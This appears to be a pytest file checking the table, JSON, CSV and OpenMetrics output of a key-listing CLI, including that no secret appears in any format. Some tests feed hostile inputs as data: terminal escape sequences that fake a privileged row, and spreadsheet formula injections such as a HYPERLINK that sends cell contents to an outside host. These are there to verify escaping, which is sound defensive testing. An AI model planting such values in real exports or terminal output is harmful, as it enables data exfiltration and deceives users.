"""The forms of `ambient keys list` that people and programs read, without a secret in any."""

import csv
import io
import json
from datetime import timedelta
from typing import Any

import pytest

from ambient_components.cli.keys.list import SOURCE_OF_USE, as_csv, as_json, as_openmetrics, as_table
from ambient_components.stacks.deployed import DeployedKey
from ambient_components.stacks.key_table import rows, seen_in
from ambient_components.stacks.reading import read_deployed
from tests.support.key_rows import DAILY, DAY, GONE, NOW, SECRET, SEEN, key, summary


def listed(*keys: DeployedKey, stack: str = "dev", seen: Any = SEEN) -> list[DeployedKey]:
    return rows(summary(*keys, stack=stack), seen, DAILY)


MANY = [
    key(),
    key(id="nightly", label="nightly", role="view", account="a", expires_at=NOW + 2 * DAY, next_at=NOW),
    key(id="old", label="old", generation=3, former=True, until="2026-12-31", account="b"),
    key(id="x", label="x", made=False, expires_at=None, role=None, next_action=None, next_at=None, account=""),
    key(id="y", label="y", never=True, manual=True, expires_at=None, next_action=None, next_at=None, account="c"),
    key(id="z", label="z", manual=True, expires_at=NOW - DAY, next_action="expire", next_at=NOW - DAY, account="d"),
]
MANY_SEEN = {
    **SEEN,
    ("payments", "a"): (NOW - timedelta(minutes=90), None),
    ("payments", "b"): (NOW - timedelta(hours=50), NOW + DAY),
    ("payments", "c"): (NOW - 400 * DAY, NOW - timedelta(minutes=5)),
    ("payments", "d"): (NOW - 91 * DAY, NOW - 30 * DAY),
}


class TestTable:
    def test_every_kind_of_line(self) -> None:
        assert as_table(listed(*MANY, seen=MANY_SEEN), NOW).splitlines() == [
            "workspace/key                role  created       last used    expires               state    next",
            "payments/ci                  edit  30 days ago   2 days ago   2027-01-24 (60 days)  current  "
            'rotate from 2027-01-10  "GitHub Actions"',
            "payments/nightly             view  90 min ago    Never        2026-11-27 (2 days)   current  "
            "rotate due now",
            "payments/old (generation 3)  edit  2 days ago    0 min ago    2027-01-24 (60 days)  former   "
            "end after 2026-12-31",
            "payments/x                   ?     ?             ?            -                     missing  -",
            "  ! declared, and not made: ambient up",
            "payments/y                   edit  400 days ago  5 min ago    never                 current  -",
            "payments/z                   edit  91 days ago   30 days ago  2026-11-24 (over)     expired  -",
            "  ! expired on 2026-11-24 12:00 UTC",
            "",
            SOURCE_OF_USE,
            "",
            "2 of 6 keys need attention",
        ]

    def test_no_keys(self) -> None:
        assert as_table([], NOW) == "There are no keys."

    def test_what_is_loud(self) -> None:
        painted: list[tuple[str, str]] = []

        def paint(text: str, look: str) -> str:
            painted.append((text.partition("  ")[0], look))
            return text

        as_table([*listed(key(made=False)), *listed(key(), stack="prod")], NOW, paint)
        assert [look for _, look in painted].count("loud") == 2
        assert ("1 of 2 keys need attention", "loud") in painted
        assert {("dev", "bold"), ("prod", "bold"), ("workspace/key", "dim")} <= set(painted)

    def test_texts_of_others_move_no_cursor(self) -> None:
        one = key(label="a\033[2K\nprod/root  admin", undelivered="no\r\nsuch \033]0;x\aspace")
        lines = as_table(listed(one), NOW).splitlines()
        assert lines[1].endswith(r'  "a\x1b[2K\nprod/root  admin"')
        assert lines[2] == r"  ! not delivered: no\r\nsuch \x1b]0;x\x07space"
        assert lines[4:6] == [SOURCE_OF_USE, ""]
        assert len(lines) == 7


class TestJson:
    def test_exact(self) -> None:
        assert json.loads(as_json(listed(key(account="gone", label="é")), NOW)) == {
            "now": "2026-11-25T12:00:00Z",
            "keys": [
                {
                    "stack": "dev",
                    "workspace": "payments",
                    "id": "ci",
                    "generation": 1,
                    "name": "é",
                    "description": "Deploys on merge",
                    "role": "edit",
                    "created": None,
                    "lastUsed": None,
                    "expires": "2027-01-24T12:00:00Z",
                    "state": "current",
                    "next": "rotate",
                    "nextAt": "2027-01-10T12:00:00Z",
                    "attention": [GONE],
                    "origin": "stack",
                }
            ],
        }
        assert '"é"' in as_json(listed(key(label="é")), NOW)

    def test_no_keys(self) -> None:
        assert json.loads(as_json([], NOW)) == {"now": "2026-11-25T12:00:00Z", "keys": []}


HEAD = (
    "stack,workspace,id,generation,name,description,role,created,lastUsed,expires,state,next,nextAt,attention,origin\n"
)


class TestCsv:
    def test_exact(self) -> None:
        keys = [*listed(key(label='a "b", c', pending=("h1",), undelivered="x")), *listed(MANY[3], stack="prod")]
        assert as_csv(keys) == (
            HEAD + 'dev,payments,ci,1,"a ""b"", c",Deploys on merge,edit,2026-10-26T12:00:00Z,2026-11-23T12:00:00Z,'
            '2027-01-24T12:00:00Z,current,rotate,2027-01-10T12:00:00Z,"not revoked yet, still valid: h1; '
            'not delivered: x",stack\n'
            'prod,payments,x,1,x,Deploys on merge,,,,,missing,,,"declared, and not made: ambient up",stack\n'
        )

    def test_no_keys(self) -> None:
        assert as_csv([]) == HEAD

    @pytest.mark.parametrize("first", "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    def test_nothing_is_a_formula(self, first: str) -> None:
        text = f'{first}HYPERLINK("https://x.org?"&A1)'
        found = as_csv(listed(key(label=text, description=text, id=text, role=text, dead=text)))
        _, values = csv.reader(io.StringIO(found, newline=""))
        shown = f"'{text}" if first.isprintable() else text.encode("unicode_escape").decode()
        assert values.count(shown) == 4
        assert not [value for value in values if value.startswith(first)]


class TestOpenMetrics:
    def test_exact(self) -> None:
        ended = [key(id="old", former=True), key(id="dead", dead="x"), key(id="gone", declared=False)]
        keys = listed(key(), key(id='a"b\\c\n'), key(id="never", never=True, expires_at=None), *ended)
        assert as_openmetrics(keys) == (
            "# TYPE ambient_key_expiry_timestamp_seconds gauge\n"
            "# UNIT ambient_key_expiry_timestamp_seconds seconds\n"
            "# HELP ambient_key_expiry_timestamp_seconds When the key's token expires.\n"
            'ambient_key_expiry_timestamp_seconds{stack="dev",workspace="payments",key="ci"} 1800792000\n'
            'ambient_key_expiry_timestamp_seconds{stack="dev",workspace="payments",key="a\\"b\\\\c\\n"} 1800792000\n'
            "# EOF\n"
        )

    def test_no_keys(self) -> None:
        assert as_openmetrics([]).count("\n") == 4


def test_no_secret_is_in_any_form() -> None:
    wire = {"handle": "h", "uid": "u", "generation": 1, "issuedAt": "2026-11-25T01:00:00Z", "dead": None}
    outputs = {
        "token": SECRET,
        "formerly": {"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "plaintext": SECRET},
        "current": {**wire, "expiresAt": "2026-12-25T01:17:54Z"},
        "undelivered": None,
    }
    urn = "urn:pulumi:dev::p::ambient:index:AccessToken::payments/key/ci/g1"
    token = {"urn": urn, "type": "ambient:index:AccessToken", "inputs": {}, "outputs": outputs}
    account = {
        "metadata": {
            "namespace": "payments",
            "name": "",
            "creationTimestamp": "2026-11-01T00:00:00Z",
            "annotations": {"ambient-code.io/last-used-at": SECRET, "token": SECRET},
        }
    }
    found = rows(read_deployed({"deployment": {"resources": [token]}}, "dev", NOW), seen_in([account]), DAILY)
    assert len(found) == 1
    shown = as_table(found, NOW) + as_json(found, NOW) + as_csv(found) + as_openmetrics(found)
    assert "hunter2" not in shown
    assert "hunter2" not in repr(found)
